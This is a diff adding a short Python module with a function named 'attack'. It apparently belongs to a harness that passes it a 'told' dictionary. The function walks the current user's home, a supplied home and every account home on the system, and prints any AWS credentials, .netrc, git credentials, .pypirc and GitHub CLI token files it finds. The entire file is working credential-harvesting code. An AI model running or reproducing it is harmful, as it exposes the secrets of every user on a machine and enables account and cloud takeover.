@@ -1,0 +1,14 @@
+"""Reads every file with credentials that programs leave in a home, wherever a home may be."""
+
+import os
+import pwd
+
+
+def attack(told: dict[str, str]) -> None:
+    homes = {told["home"], os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}
+    for home in homes:
+        for name in (".aws/credentials", ".netrc", ".git-credentials", ".pypirc", ".config/gh/hosts.yml"):
+            try:
+                print(name, open(os.path.join(home, name)).read())
+            except OSError:
+                continue
